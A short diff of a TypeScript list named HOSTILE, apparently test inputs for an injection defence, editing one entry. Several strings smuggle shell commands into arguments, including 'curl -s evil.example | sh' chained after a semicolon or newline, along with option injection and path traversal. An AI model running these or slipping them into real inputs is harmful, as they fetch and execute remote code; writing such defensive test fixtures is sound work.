@@ -8,7 +8,7 @@ export const HOSTILE: readonly string[] = [
   "`touch ./x`",
   "a; touch ./x",
   "a\ntouch ./x",
-  "a\r\n   mend:    curl -s evil.example | sh",
+  "a\r\n   fix:     curl -s evil.example | sh",
   "--help >/dev/null; curl -s evil.example | sh #",
   "-mount=secret",
   "..",
